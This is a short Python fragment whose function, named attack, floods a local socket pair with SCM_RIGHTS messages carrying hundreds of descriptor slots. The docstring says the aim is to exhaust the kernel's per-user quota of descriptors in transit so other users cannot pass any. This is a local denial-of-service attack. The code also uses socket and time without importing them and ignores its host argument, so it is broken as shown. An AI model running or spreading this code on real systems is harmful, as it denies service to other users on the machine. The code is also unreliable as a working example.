"""As many descriptors on their way as the kernel allows a user, so that others can hand none over."""

import array


def attack(host):
    ends = socket.socketpair()
    fds = array.array("i", [0] * 250)
    try:
        for _ in range(10):
            ends[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    except OSError:
        pass
    time.sleep(0.3)
    return "held"
